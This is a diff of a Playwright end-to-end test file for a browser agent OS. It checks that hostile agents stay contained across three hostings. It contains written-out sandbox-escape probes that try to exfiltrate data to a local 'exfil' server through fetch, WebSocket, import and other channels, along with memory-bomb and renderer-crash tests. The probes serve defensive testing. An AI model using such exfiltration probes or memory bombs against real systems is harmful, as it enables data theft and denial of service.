@@ -3,29 +3,47 @@
  * agent in a real Chromium, and must be blocked, while a well-behaved agent
  * (the canary) keeps being served and a desktop tab keeps making syscalls.
  * An http server on another origin counts every request an attacker gets out.
+ *
+ * The attacks run under three hostings: the preview server (with the headers
+ * vite.config.ts sends), a plain static server that sends none (e2e/static-
+ * server.ts: GitHub Pages, a bare nginx), and with the service worker in
+ * control. Containment must not depend on the server. Then the first layer
+ * (the sandboxed frame) is probed alone, without the in-worker seal, and
+ * memory bombs of every kind are set off in every tab.
  */
 
 import { writeFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { type BrowserContext, expect, type Page, test } from '@playwright/test';
+import {
+  type Browser,
+  type BrowserContext,
+  type CDPSession,
+  chromium,
+  expect,
+  type Frame,
+  type Page,
+  test,
+} from '@playwright/test';
+import { BOMB_HEAP } from '../bench/containment.mjs';
 import { fuzzFrames } from '../tests/contract/fuzz-frames';
-import { ATTACKS, type AttackReport, CANARY } from './attacks';
+import { ATTACKS, type AttackReport, BOMBS, CANARY } from './attacks';
+import { CHROMIUM_ARGS, CHROMIUM_PATH } from './chromium.mjs';
 import { evaluateInKernel } from './kernel-realm';
-import { openOS } from './os';
+import { serveStatic } from './static-server.mjs';
 
 test.describe.configure({ mode: 'serial' });
 
-let context: BrowserContext;
-let host: Page;
-let desk: Page;
-let canary = 0;
 let exfil: Server;
 let exfilOrigin = '';
+let statik: { origin: string; close(): Promise<void> } | null = null;
+/** Another site's page (same site as the OS, another port: it shares the OS's kernel unless refused). */
+let foreign: Server;
+let foreignOrigin = '';
 const hits: string[] = [];
 const results: Record<string, { blocked: boolean; p99Ms: number; detail: string | null }> = {};
 
-test.beforeAll(async ({ browser }) => {
+test.beforeAll(async () => {
   exfil = createServer((req, res) => {
     hits.push(`${req.method} ${req.url}`);
     res.setHeader('access-control-allow-origin', '*');
@@ -38,13 +56,58 @@ test.beforeAll(async ({ browser }) => {
   });
   await new Promise<void>((r) => exfil.listen(0, '127.0.0.1', r));
   exfilOrigin = `http://127.0.0.1:${(exfil.address() as AddressInfo).port}`;
-  context = await browser.newContext();
-  host = await context.newPage();
-  await openOS(host);
-  // The desktop the user watches from hosts no agents, so what an agent does to its host cannot reach it.
-  desk = await context.newPage();
-  await openOS(desk, '?host=0');
-  canary = await desk.evaluate(
+  statik = await serveStatic('dist');
+  foreign = createServer((req, res) => {
+    const u = new URL(req.url ?? '/', 'http://x').searchParams.get('u') ?? '';
+    res.setHeader('content-type', 'text/html');
+    res.end(
+      `<!doctype html><title>another site</title><iframe id="f" src="${u.replaceAll('"', '')}" width="800" height="600"></iframe>`,
+    );
+  });
+  await new Promise<void>((r) => foreign.listen(0, '127.0.0.1', r));
+  foreignOrigin = `http://localhost:${(foreign.address() as AddressInfo).port}`;
+});
+
+test.afterAll(async () => {
+  writeFileSync('test-results/hostile.json', `${JSON.stringify({ hits, results }, null, 2)}\n`);
+  exfil?.close();
+  foreign?.close();
+  await statik?.close();
+});
+
+type HostingName = 'preview' | 'static' | 'sw';
+
+/** One hosting of the OS: a browser context, a host tab (agents run there) and a desktop that only watches. */
+interface Seat {
+  context: BrowserContext;
+  host: Page;
+  desk: Page;
+  canary: number;
+  origin: string;
+}
+
+async function open(page: Page, origin: string, query = ''): Promise<void> {
+  await page.goto(`${origin}/${query}`);
+  await page.waitForFunction(() => !!window.agentos, null, { timeout: 30_000 });
+}
+
+async function seat(browser: Browser, hosting: HostingName, baseURL: string): Promise<Seat> {
+  const origin = hosting === 'static' ? statik!.origin : baseURL;
+  const context = await browser.newContext();
+  if (hosting === 'sw') {
+    // Let the service worker install, then start the OS again: every page and the kernel are its clients.
+    const first = await context.newPage();
+    await open(first, origin);
+    await first.evaluate(() => navigator.serviceWorker.ready);
+    await first.close();
+  }
+  const host = await context.newPage();
+  await open(host, origin);
+  if (hosting === 'sw') expect(await host.evaluate(() => !!navigator.serviceWorker.controller)).toBe(true);
+  // The desktop the user watches from hosts no agents.
+  const desk = await context.newPage();
+  await open(desk, origin, '?host=0');
+  const canary = await desk.evaluate(
     (src) =>
       window.agentos!.spawn(
         'canary',
@@ -56,17 +119,24 @@ test.beforeAll(async ({ browser }) => {
   await expect
     .poll(() => desk.evaluate((p) => window.agentos!.output(p).then((o) => o.length), canary))
     .toBeGreaterThan(3);
-  // Every agent may call the canary's echo tool; its secret tool is granted to nobody.
-});
+  return { context, host, desk, canary, origin };
+}
 
-test.afterAll(async () => {
-  writeFileSync('test-results/hostile.json', `${JSON.stringify({ hits, results }, null, 2)}\n`);
-  await context?.close();
-  exfil?.close();
-});
+const canaryOutput = (s: Seat) =>
+  s.desk.evaluate((p) => window.agentos!.output(p).then((o) => o.length), s.canary);
+
+async function canaryKeepsAnswering(s: Seat, before: number): Promise<void> {
+  await expect.poll(() => canaryOutput(s), { timeout: 20_000 }).toBeGreaterThan(before);
+  expect(
+    await s.desk.evaluate(
+      (p) => window.agentos!.ps().then((ps) => ps.find((x) => x.pid === p)?.state),
+      s.canary,
+    ),
+  ).toMatch(/running|waiting/);
+}
 
 /** Whether the kernel's realm has been polluted: keys on Object.prototype, or inherited by a fresh object. */
-function kernelPollution(): Promise<{ kernelRealm: boolean; polluted: string[] }> {
+function kernelPollution(desk: Page): Promise<{ kernelRealm: boolean; polluted: string[] }> {
   return evaluateInKernel(
     desk,
     `({
@@ -118,117 +188,437 @@ async function sampleLatency(page: Page): Promise<() => Promise<number>> {
     });
 }
 
-for (const attack of ATTACKS) {
-  test(`blocked: ${attack.name}`, async () => {
-    test.setTimeout((attack.waitMs ?? 20_000) + 30_000);
-    const hitsBefore = hits.length;
-    const canaryBefore = await desk.evaluate((p) => window.agentos!.output(p).then((o) => o.length), canary);
-    const stop = await sampleLatency(desk);
-    const source = attack.source.replaceAll('EXFIL', exfilOrigin);
-    const run = await desk.evaluate(
-      async ({ source, permissions, canary, waitMs }) => {
-        const k = window.agentos!;
-        const pid = await k.spawn('attack', permissions, { source, args: { canary } });
-        const exit = await k.wait(pid, waitMs);
-        return { exit, out: await k.output(pid) };
-      },
-      { source, permissions: attack.permissions, canary, waitMs: attack.waitMs ?? 20_000 },
-    );
-    const p99 = await stop();
-    const line = run.out.trim().split('\n').at(-1) ?? '';
-    let report: AttackReport | null = null;
-    try {
-      report = JSON.parse(line) as AttackReport;
-    } catch {
-      /* the busy loop prints nothing */
+/** What an unsealed agent (no in-worker seal) tries from inside a sandboxed frame: the first layer alone. */
+const LAYER1_PROBES = `
+const out = {};
+const exfil = EXFIL_JSON;
+const tryIt = async (name, fn) => {
+  try { const v = await Promise.race([fn(), new Promise((_, ko) => setTimeout(() => ko(new Error('timeout')), 3000))]); out[name] = 'LEAK ' + String(v).slice(0, 80); }
+  catch (e) { out[name] = 'blocked: ' + ((e && e.name) || 'Error') + ' ' + String((e && e.message) || e).slice(0, 100); }
+};
+(async () => {
+  await tryIt('fetch another origin', () => fetch(exfil + '/l1-fetch').then((r) => r.status));
+  await tryIt('fetch the OS origin', () => fetch(OS_ORIGIN + '/index.html').then((r) => r.status));
+  await tryIt('XMLHttpRequest', () => new Promise((ok, ko) => { const x = new XMLHttpRequest(); x.onload = () => ok(x.status); x.onerror = () => ko(new Error('xhr error')); x.open('GET', exfil + '/l1-xhr'); x.send(); }));
+  await tryIt('WebSocket', () => new Promise((ok, ko) => { const w = new WebSocket(exfil.replace('http', 'ws') + '/l1-ws'); w.onopen = () => ok('open'); w.onerror = () => ko(new Error('ws error')); }));
+  await tryIt('EventSource', () => new Promise((ok, ko) => { const s = new EventSource(exfil + '/l1-sse'); s.onopen = () => ok('open'); s.onerror = () => ko(new Error('sse error')); }));
+  await tryIt('import another origin', () => import(exfil + '/l1-import.js'));
+  await tryIt('import protocol-relative', () => import(exfil.replace(/^https?:/, '') + '/l1-import2.js'));
+  await tryIt('import the OS origin', () => import(OS_ORIGIN + '/models/x.js?v=' + Math.random()));
+  await tryIt('import data:', () => import('data:text/javascript,export default 1'));
+  await tryIt('importScripts', () => { importScripts(exfil + '/l1-classic.js'); return 'ran'; });
+  await tryIt('FontFace', () => new FontFace('x', 'url(' + exfil + '/l1-font)').load().then(() => 'loaded'));
+  await tryIt('indexedDB', () => new Promise((ok, ko) => { const r = indexedDB.open('agentos'); r.onsuccess = () => ok([...r.result.objectStoreNames].join(',') || 'opened'); r.onerror = () => ko(r.error); }));
+  await tryIt('Cache Storage', () => caches.keys().then((k) => 'keys:' + k.join(',')));
+  await tryIt('OPFS', () => navigator.storage.getDirectory().then((d) => 'dir ' + d.name));
+  await tryIt('Web Locks', () => navigator.locks.query().then((q) => JSON.stringify(q)));
+  await tryIt('storage buckets', () => navigator.storageBuckets.open('b').then(() => 'bucket'));
+  await tryIt('WebGPU', () => navigator.gpu.requestAdapter().then((a) => { if (!a) throw new Error('no adapter'); return 'adapter'; }));
+  await tryIt('BroadcastChannel to another agent', () => new Promise((ok, ko) => { const b = new BroadcastChannel('agentos-l1'); b.onmessage = (e) => ok('heard ' + e.data); setTimeout(() => ko(new Error('nobody heard')), 1500); b.postMessage('from-probe'); }));
+  postMessage(out);
+})();
+`;
+
+async function layerOneAlone(s: Seat): Promise<Record<string, string>> {
+  // Two agent frames of the host tab: the probe runs in one, a listener on the channel in the other.
+  await s.desk.evaluate(() =>
+    window.agentos!.spawn('idle', undefined, {
+      source: 'export default async () => { await new Promise((r) => setTimeout(r, 15000)); }',
+    }),
+  );
+  const frames = async (): Promise<Frame[]> => s.host.frames().filter((f) => f.url() === 'about:srcdoc');
+  await expect.poll(async () => (await frames()).length).toBeGreaterThanOrEqual(2);
+  const [probeFrame, other] = await frames();
+  const frameFacts = await probeFrame!.evaluate(() => ({
+    origin: self.origin,
+    csp: document.querySelector('meta[http-equiv]')?.getAttribute('content') ?? null,
+    sandbox: window.frameElement === null, // a cross-origin (opaque) frame cannot see its element
+  }));
+  expect(frameFacts.origin).toBe('null');
+  expect(frameFacts.csp).toContain("default-src 'none'");
+  await other!.evaluate(() => {
+    const b = new BroadcastChannel('agentos-l1');
+    b.onmessage = () => b.postMessage('echo');
+  });
+  const probes = LAYER1_PROBES.replace('EXFIL_JSON', JSON.stringify(exfilOrigin)).replaceAll(
+    'OS_ORIGIN',
+    JSON.stringify(s.origin),
+  );
+  return probeFrame!.evaluate(
+    (code) =>
+      new Promise<Record<string, string>>((ok, ko) => {
+        const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
+        w.onmessage = (e) => ok(e.data as Record<string, string>);
+        w.onerror = (e) => ko(new Error(`probe worker failed: ${e.message}`));
+      }),
+    probes,
+  );
+}
+
+for (const hosting of ['preview', 'static', 'sw'] as const) {
+  test.describe(`hosting: ${hosting}`, () => {
+    let s: Seat;
+    test.beforeAll(async ({ browser, baseURL }) => {
+      test.setTimeout(90_000);
+      s = await seat(browser, hosting, baseURL!);
+    });
+    test.afterAll(async () => {
+      await s?.context.close();
+    });
+
+    for (const attack of ATTACKS) {
+      test(`blocked: ${attack.name}`, async () => {
+        test.setTimeout((attack.waitMs ?? 20_000) + 30_000);
+        const hitsBefore = hits.length;
+        const before = await canaryOutput(s);
+        const stop = await sampleLatency(s.desk);
+        const source = attack.source.replaceAll('EXFIL', exfilOrigin);
+        const run = await s.desk.evaluate(
+          async ({ source, permissions, canary, waitMs }) => {
+            const k = window.agentos!;
+            const pid = await k.spawn('attack', permissions, { source, args: { canary } });
+            const exit = await k.wait(pid, waitMs);
+            return { exit, out: await k.output(pid) };
+          },
+          { source, permissions: attack.permissions, canary: s.canary, waitMs: attack.waitMs ?? 20_000 },
+        );
+        const p99 = await stop();
+        const line = run.out.trim().split('\n').at(-1) ?? '';
+        let report: AttackReport | null = null;
+        try {
+          report = JSON.parse(line) as AttackReport;
+        } catch {
+          /* the busy loop prints nothing */
+        }
+        const detail =
+          (report?.leaks.length ? `leaked: ${report.leaks.join('; ')}` : null) ??
+          attack.check?.({ exitCode: run.exit.exitCode, reason: run.exit.exitReason ?? null, report }) ??
+          (hits.length > hitsBefore
+            ? `the exfiltration server was reached: ${hits.slice(hitsBefore).join(', ')}`
+            : null);
+        results[`${hosting}: ${attack.name}`] = { blocked: detail === null, p99Ms: p99, detail };
+        expect(detail, `${attack.name}: ${run.out.slice(0, 2000)}`).toBeNull();
+        // The well-behaved agent kept being served, and the kernel answers.
+        await canaryKeepsAnswering(s, before);
+      });
     }
-    const detail =
-      (report?.leaks.length ? `leaked: ${report.leaks.join('; ')}` : null) ??
-      attack.check?.({ exitCode: run.exit.exitCode, reason: run.exit.exitReason ?? null, report }) ??
-      (hits.length > hitsBefore
-        ? `the exfiltration server was reached: ${hits.slice(hitsBefore).join(', ')}`
-        : null);
-    results[attack.name] = { blocked: detail === null, p99Ms: p99, detail };
-    expect(detail, `${attack.name}: ${run.out.slice(0, 2000)}`).toBeNull();
-    // The well-behaved agent kept being served, and the kernel answers.
-    await expect
-      .poll(() => desk.evaluate((p) => window.agentos!.output(p).then((o) => o.length), canary))
-      .toBeGreaterThan(canaryBefore);
-    expect(
-      await desk.evaluate(
-        (p) => window.agentos!.ps().then((ps) => ps.find((x) => x.pid === p)?.state),
-        canary,
-      ),
-    ).toMatch(/running|waiting/);
+
+    test('the first layer alone: an unsealed worker in an agent frame reaches no server, no storage, no GPU, no other agent', async () => {
+      const hitsBefore = hits.length;
+      const out = await layerOneAlone(s);
+      const leaks = Object.entries(out).filter(([, v]) => v.startsWith('LEAK'));
+      results[`${hosting}: first layer alone`] = {
+        blocked: leaks.length === 0 && hits.length === hitsBefore,
+        p99Ms: 0,
+        detail: leaks.length ? JSON.stringify(leaks) : null,
+      };
+      expect(leaks, JSON.stringify(out, null, 1)).toEqual([]);
+      expect(Object.keys(out).length).toBe(18);
+      expect(hits.slice(hitsBefore)).toEqual([]);
+    });
+
+    test('the desktop refuses to run inside another site’s frame: no kernel, no prompt, an offer to open it in its own tab', async () => {
+      const page = await s.context.newPage();
+      await page.goto(`${foreignOrigin}/?u=${encodeURIComponent(`${s.origin}/`)}`);
+      const frame = page.frames().find((f) => f !== page.mainFrame())!;
+      await frame.waitForLoadState('load').catch(() => {});
+      // With headers the browser refuses the frame (frame-ancestors); without, the page refuses itself.
+      await expect
+        .poll(() =>
+          frame
+            .evaluate(() => ({
+              kernel: !!window.agentos,
+              desktop: !!document.querySelector('aos-desktop'),
+              framed: document.documentElement.dataset.framed ?? null,
+            }))
+            .catch(() => ({ kernel: false, desktop: false, framed: 'blocked by the browser' })),
+        )
+        .toMatchObject({ kernel: false, desktop: false });
+      if (hosting === 'static') {
+        expect(await frame.evaluate(() => document.documentElement.dataset.framed)).toBe('true');
+        await expect(frame.getByRole('link', { name: /open agentos in its own tab/i })).toBeVisible();
+      }
+      // Still nothing after a while: it never connected.
+      await page.waitForTimeout(500);
+      expect(await frame.evaluate(() => !!window.agentos).catch(() => false)).toBe(false);
+      await page.close();
+    });
+
+    test('an embed frame on a refused origin is refused and never hosts the user’s agents', async () => {
+      const page = await s.context.newPage();
+      await page.goto(`${foreignOrigin}/?u=${encodeURIComponent(`${s.origin}/embed.html`)}`);
+      const replies = await page.evaluate(async () => {
+        const f = document.getElementById('f') as HTMLIFrameElement;
+        await new Promise((r) => (f.contentWindow ? setTimeout(r, 300) : f.addEventListener('load', r)));
+        const seen: unknown[] = [];
+        addEventListener('message', (e) => seen.push(e.data));
+        f.contentWindow!.postMessage({ agentos: 1, id: 'h1', type: 'hello', versions: [1] }, '*');
+        f.contentWindow!.postMessage(
+          { agentos: 1, id: 's1', type: 'spawn', task: 'x', options: { source: 'export default () => 0' } },
+          '*',
+        );
+        const t0 = Date.now();
+        while (seen.length < 2 && Date.now() - t0 < 15_000) await new Promise((r) => setTimeout(r, 50));
+        return seen as { type?: string }[];
+      });
+      expect(replies.length).toBeGreaterThan(0);
+      expect(replies.every((m) => m.type === 'refused')).toBe(true);
+      // The user's agents all go to the user's own host tab, none into the refused frame.
+      const hostTab = await s.host.evaluate(() => window.agentos!.tabId);
+      const placed = await s.desk.evaluate(async () => {
+        const k = window.agentos!;
+        const pids: number[] = [];
+        for (let i = 0; i < 4; i++)
+          pids.push(
+            await k.spawn('placed', undefined, {
+              source: 'export default () => new Promise((r) => setTimeout(r, 3000))',
+            }),
+          );
+        await new Promise((r) => setTimeout(r, 300));
+        const ps = await k.ps();
+        return pids.map((p) => ps.find((x) => x.pid === p)?.hostTab ?? null);
+      });
+      expect(placed).toEqual([hostTab, hostTab, hostTab, hostTab]);
+      await page.close();
+    });
+
+    test('caches belong to the OS: what an agent imports or names with a query string is not cached', async () => {
+      const source = `export default async function main(ctx) {
+        const tried = [];
+        for (let i = 0; i < 20; i++) {
+          try { await import(ctx.args.origin + '/models/tiny/config.json?v=' + i); tried.push('ok'); } catch (e) { tried.push(e.name); }
+          try { await import('/assets/x.js?v=' + i); tried.push('ok'); } catch (e) { tried.push(e.name); }
+        }
+        await ctx.print(JSON.stringify(tried.filter((t) => t === 'ok').length));
+      }`;
+      const out = await s.desk.evaluate(
+        async ({ src, origin }) => {
+          const k = window.agentos!;
+          const pid = await k.spawn('cache filler', undefined, { source: src, args: { origin } });
+          await k.wait(pid, 20_000);
+          return k.output(pid);
+        },
+        { src: source, origin: s.origin },
+      );
+      expect(out.trim()).toBe('0');
+      const keys = await s.desk.evaluate(async () => {
+        const all: string[] = [];
+        for (const name of await caches.keys())
+          for (const r of await (await caches.open(name)).keys()) all.push(`${name} ${r.url}`);
+        return all;
+      });
+      // Nothing the agent named; and the runtime caches (models, engines) hold no URL with a query at all
+      // (the precache's own ?__WB_REVISION__ entries are the OS's).
+      expect(keys.filter((u) => /[?&]v=/.test(u))).toEqual([]);
+      expect(keys.filter((u) => /^agentos-(models|engines) .*\?/.test(u))).toEqual([]);
+    });
   });
 }
 
-test('fuzz: 10,000 random and malformed frames on a port, and 2,000 random syscalls from a sandboxed agent; each answered with a typed error, the kernel serving throughout', async () => {
-  test.setTimeout(60_000);
-  const canaryBefore = await desk.evaluate((p) => window.agentos!.output(p).then((o) => o.length), canary);
-  // The same generator as the unit fuzz test (tests/contract/fuzz-frames.ts), here on a tab's port.
-  const names = [
-    'spawn',
-    'kill',
-    'wait',
-    'ps',
-    'nop',
-    'exit',
-    'boot',
-    'bus.send',
-    'bus.publish',
-    'tools.call',
-    'tools.register',
-    'memory.remember',
-    'memory.recall',
-    'context.allocate',
-    'models.load',
-    'sched.policy',
-    'renice',
-    'grant',
-    'revoke',
-    'embed.allow',
-    'permission.answer',
-    'tools.result',
-    '__proto__',
-    'constructor',
-    'toString',
-    'x'.repeat(5000),
-    '',
-  ];
-  const { json, withId } = fuzzFrames({ seed: 4242, count: 10_000, idBase: 5_000_000, names });
-  const raw = await desk.evaluate(
-    async ({ json, withId }) => {
-      const port = (window.agentos as unknown as { sys: { port: MessagePort } }).sys.port;
-      const answers = new Map<number, { ok: boolean; error?: { code: string } }>();
-      const orig = port.onmessage;
-      port.onmessage = (ev) => {
-        if (ev.data?.t === 'ret' && ev.data.id >= 5_000_000) answers.set(ev.data.id, ev.data);
-        else orig?.call(port, ev);
-      };
-      for (const frame of JSON.parse(json) as unknown[]) port.postMessage(frame);
-      const t0 = performance.now();
-      while (answers.size < withId * 0.85 && performance.now() - t0 < 10_000)
-        await new Promise((r) => setTimeout(r, 50));
-      port.onmessage = orig;
-      const codes = new Set<string>();
-      for (const a of answers.values()) if (!a.ok) codes.add(a.error!.code);
-      return {
-        withId,
-        answered: answers.size,
-        codes: [...codes],
-      };
-    },
-    { json, withId },
-  );
-  expect(raw.answered).toBeGreaterThan(raw.withId * 0.85);
-  for (const c of raw.codes)
-    expect(['EINVAL', 'ENOSYS', 'ESRCH', 'EPERM', 'E2BIG', 'ENOENT', 'ETIMEDOUT', 'EAGAIN']).toContain(c);
-  // The frames went to the kernel: its realm (the SharedWorker), not this page's, is where pollution would show.
-  expect(await kernelPollution()).toEqual({ kernelRealm: true, polluted: [] });
+test.describe('the kernel never shares a fate with an agent', () => {
+  let s: Seat;
+  let bombBrowser: Browser;
+  let second: Page;
+  /** CDP sessions into the two host tabs, made before any crash: Playwright marks a page crashed (and stops
+   *  evaluating in it) when any of its frames' processes dies, though the page itself runs on. */
+  const cdp = new Map<Page, CDPSession>();
+  test.beforeAll(async ({ baseURL }) => {
+    test.setTimeout(90_000);
+    // Its own browser, with a 1 GiB heap per isolate: the bombs reach the limit sooner and take less of a
+    // shared machine.
+    bombBrowser = await chromium.launch({
+      executablePath: CHROMIUM_PATH,
+      args: [...CHROMIUM_ARGS, BOMB_HEAP],
+    });
+    s = await seat(bombBrowser, 'preview', baseURL!);
+    // A second host tab, so agents lost with one tab's frames have somewhere else to go.
+    second = await s.context.newPage();
+    await open(second, s.origin);
+    for (const p of [s.host, second, s.desk]) cdp.set(p, await s.context.newCDPSession(p));
+  });
+  test.afterAll(async () => {
+    await s?.context.close();
+    await bombBrowser?.close();
+  });
 
-  // From inside the sandbox: random syscalls through the SDK, many in flight at once.
-  const FUZZER = `export default async function main(ctx) {
+  async function evalIn<T>(page: Page, expression: string): Promise<T> {
+    const r = await cdp.get(page)!.send('Runtime.evaluate', {
+      expression,
+      awaitPromise: true,
+      returnByValue: true,
+      timeout: 15_000,
+    });
+    if (r.exceptionDetails)
+      throw new Error(r.exceptionDetails.exception?.description ?? r.exceptionDetails.text);
+    return r.result.value as T;
+  }
+
+  /** Every tab's own document answers, and so does the kernel through it. */
+  const tabsAlive = () =>
+    Promise.all(
+      [s.host, second, s.desk].map((p) =>
+        evalIn<boolean>(p, 'window.agentos.call("getpid", {}).then(() => true)').catch(() => false),
+      ),
+    );
+
+  const load = (page: Page) =>
+    evalIn<number>(page, 'window.agentos.hostedPids().length + 8 * window.agentos.hostedEngines().length');
+
+  /** Makes `target` the tab the kernel places the next agent in (the least loaded; ties go to the tab that
+   *  connected first, s.host), with idle ballast in the other. */
+  async function steerTo(target: Page): Promise<void> {
+    const other = target === s.host ? second : s.host;
+    const wins = async () => {
+      const [t, o] = [await load(target), await load(other)];
+      return target === s.host ? t <= o : t < o;
+    };
+    for (let i = 0; i < 20 && !(await wins()); i++)
+      await s.desk.evaluate(() =>
+        // Filler that opts out of moving (agents move by default): lost with a bomb's frames, it exits
+        // instead of joining the suspects, so the bomb is told apart within crash-blame's strikes.
+        window.agentos!.spawn('ballast', undefined, {
+          source: 'export default async () => { await new Promise((r) => setTimeout(r, 600000)); }',
+          restart: 'never',
+        }),
+      );
+    expect(await wins()).toBe(true);
+  }
+
+  const plan: [string, 'first' | 'second'][] = [
+    ['sync heap', 'first'],
+    ['async heap (keeps answering the heartbeat)', 'second'],
+    ['WebAssembly.Memory', 'first'],
+    ['ArrayBuffer', 'second'],
+    ['async heap (keeps answering the heartbeat)', 'first'],
+  ];
+  for (const [name, tab] of plan)
+    test(`a ${name} bomb in the ${tab} tab ends at most that tab's sandbox process: the kernel, every desktop and the canary carry on; the bomb is blamed, not restarted`, async () => {
+      test.setTimeout(180_000);
+      const target = tab === 'first' ? s.host : second;
+      await steerTo(target);
+      const targetTab = await evalIn<string>(target, 'window.agentos.tabId');
+      const before = await canaryOutput(s);
+      const pid = await s.desk.evaluate(
+        (src) => window.agentos!.spawn('bomb', undefined, { source: src, restart: 'on-host-loss' }),
+        BOMBS[name]!,
+      );
+      const placed = await s.desk.evaluate(
+        (p) => window.agentos!.ps().then((ps) => ps.find((x) => x.pid === p)?.hostTab ?? null),
+        pid,
+      );
+      expect(placed).toBe(targetTab);
+      const exit = await s.desk.evaluate((p) => window.agentos!.wait(p, 170_000), pid);
+      // Its process crashed and it alone was to blame; restart: on-host-loss did not bring it back.
+      expect(exit.exitCode).toBe(137);
+      expect(exit.exitReason).toMatch(/it was the cause: not restarted/);
+      // Both host tabs' documents, the desktop and the kernel answer; the canary keeps running (restarted
+      // elsewhere if it was lost with the bomb's frames).
+      expect(await tabsAlive()).toEqual([true, true, true]);
+      await canaryKeepsAnswering(s, before);
+      results[`bomb: ${name} (${tab} tab)`] = { blocked: true, p99Ms: 0, detail: exit.exitReason ?? null };
+    });
+
+  test('Page.crash on an agent frame (its renderer killed) takes only that frame’s process: the agent is blamed, the tab and kernel carry on', async () => {
+    test.setTimeout(90_000);
+    await steerTo(second);
+    const pid = await s.desk.evaluate(() =>
+      window.agentos!.spawn('victim', undefined, {
+        source:
+          'export default async (ctx) => { for (;;) { await ctx.syscall("getpid", {}); await new Promise((r) => setTimeout(r, 50)); } }',
+        // Opts out of moving: lost with others (a suspect) it ends (129) rather than moving on; alone, it is blamed (137).
+        restart: 'never',
+      }),
+    );
+    await expect
+      .poll(() =>
+        s.desk.evaluate((p) => window.agentos!.ps().then((ps) => ps.find((x) => x.pid === p)?.state), pid),
+      )
+      .toMatch(/running|waiting/);
+    // Every agent frame of that tab shares one process (Chromium groups sandboxed frames per site): kill it.
+    const frame = second.frames().find((f) => f.url() === 'about:srcdoc');
+    expect(frame).toBeTruthy();
+    const before = await canaryOutput(s);
+    const frameCdp = await s.context.newCDPSession(frame!);
+    await frameCdp.send('Page.crash').catch(() => {}); // no answer: its process is gone
+    const exit = await s.desk.evaluate((p) => window.agentos!.wait(p, 60_000), pid);
+    // Alone in the crashed process: it is taken for the cause (the kernel cannot tell a kill from a bomb).
+    expect(exit.exitReason).toMatch(/sandbox process/);
+    expect(await tabsAlive()).toEqual([true, true, true]);
+    await canaryKeepsAnswering(s, before);
+  });
+});
+
+test.describe('fuzz', () => {
+  let s: Seat;
+  test.beforeAll(async ({ browser, baseURL }) => {
+    test.setTimeout(90_000);
+    s = await seat(browser, 'preview', baseURL!);
+  });
+  test.afterAll(async () => {
+    await s?.context.close();
+  });
+  test('fuzz: 10,000 random and malformed frames on a port, and 2,000 random syscalls from a sandboxed agent; each answered with a typed error, the kernel serving throughout', async () => {
+    test.setTimeout(60_000);
+    const canaryBefore = await canaryOutput(s);
+    // The same generator as the unit fuzz test (tests/contract/fuzz-frames.ts), here on a tab's port.
+    const names = [
+      'spawn',
+      'kill',
+      'wait',
+      'ps',
+      'nop',
+      'exit',
+      'boot',
+      'bus.send',
+      'bus.publish',
+      'tools.call',
+      'tools.register',
+      'memory.remember',
+      'memory.recall',
+      'context.allocate',
+      'models.load',
+      'sched.policy',
+      'renice',
+      'grant',
+      'revoke',
+      'embed.allow',
+      'permission.answer',
+      'tools.result',
+      '__proto__',
+      'constructor',
+      'toString',
+      'x'.repeat(5000),
+      '',
+    ];
+    const { json, withId } = fuzzFrames({ seed: 4242, count: 10_000, idBase: 5_000_000, names });
+    const raw = await s.desk.evaluate(
+      async ({ json, withId }) => {
+        const port = (window.agentos as unknown as { sys: { port: MessagePort } }).sys.port;
+        const answers = new Map<number, { ok: boolean; error?: { code: string } }>();
+        const orig = port.onmessage;
+        port.onmessage = (ev) => {
+          if (ev.data?.t === 'ret' && ev.data.id >= 5_000_000) answers.set(ev.data.id, ev.data);
+          else orig?.call(port, ev);
+        };
+        for (const frame of JSON.parse(json) as unknown[]) port.postMessage(frame);
+        const t0 = performance.now();
+        while (answers.size < withId * 0.85 && performance.now() - t0 < 10_000)
+          await new Promise((r) => setTimeout(r, 50));
+        port.onmessage = orig;
+        const codes = new Set<string>();
+        for (const a of answers.values()) if (!a.ok) codes.add(a.error!.code);
+        return { withId, answered: answers.size, codes: [...codes] };
+      },
+      { json, withId },
+    );
+    expect(raw.answered).toBeGreaterThan(raw.withId * 0.85);
+    for (const c of raw.codes)
+      expect(['EINVAL', 'ENOSYS', 'ESRCH', 'EPERM', 'E2BIG', 'ENOENT', 'ETIMEDOUT', 'EAGAIN']).toContain(c);
+    // The frames went to the kernel: its realm (the SharedWorker), not this page's, is where pollution would show.
+    expect(await kernelPollution(s.desk)).toEqual({ kernelRealm: true, polluted: [] });
+
+    // From inside the sandbox: random syscalls through the SDK, many in flight at once.
+    const FUZZER = `export default async function main(ctx) {
     let seed = 99;
     const rnd = () => { seed = (seed * 1103515245 + 12345) & 0x7fffffff; return seed / 0x7fffffff; };
     const names = ['spawn', 'ps', 'nop', 'getpid', 'write', 'bus.send', 'bus.publish', 'bus.subscribe', 'tools.call', 'tools.search', 'memory.remember', 'memory.recall', 'memory.forget', 'context.allocate', 'models.load', 'sched.policy', 'renice', 'grant', 'restart', 'embed.allow', 'tools.result', 'llm.chat', 'no.such', '__proto__'];
@@ -243,62 +633,24 @@ test('fuzz: 10,000 random and malformed frames on a port, and 2,000 random sysca
     }
     await ctx.print(JSON.stringify({ n, ok, codes }));
   }`;
-  const agent = await desk.evaluate(async (src) => {
-    const k = window.agentos!;
-    const pid = await k.spawn('fuzzer', undefined, { source: src });
-    const exit = await k.wait(pid, 30_000);
-    return {
-      exit,
-      out: JSON.parse(await k.output(pid)) as { n: number; ok: number; codes: Record<string, number> },
-    };
-  }, FUZZER);
-  expect(agent.exit.exitCode).toBe(0);
-  expect(agent.out.n).toBe(2000);
-  for (const c of Object.keys(agent.out.codes))
-    expect(['EINVAL', 'ENOSYS', 'ESRCH', 'EPERM', 'E2BIG', 'ENOENT', 'EAGAIN', 'EDQUOT']).toContain(c);
-  expect(await kernelPollution()).toEqual({ kernelRealm: true, polluted: [] });
-  // The kernel still serves the desktop and the canary.
-  expect(await desk.evaluate(() => window.agentos!.call('nop', {}))).toBeNull();
-  await expect
-    .poll(() => desk.evaluate((p) => window.agentos!.output(p).then((o) => o.length), canary))
-    .toBeGreaterThan(canaryBefore);
-});
-
-test('blocked: a memory bomb takes down only the worker’s own tab; the kernel, the desktop and the canary carry on', async () => {
-  test.setTimeout(120_000);
-  // A second host tab, with no agents yet: the bomb is placed there (least loaded), the canary stays where it is.
-  const victim = await context.newPage();
-  await openOS(victim);
-  const canaryTab = await desk.evaluate(
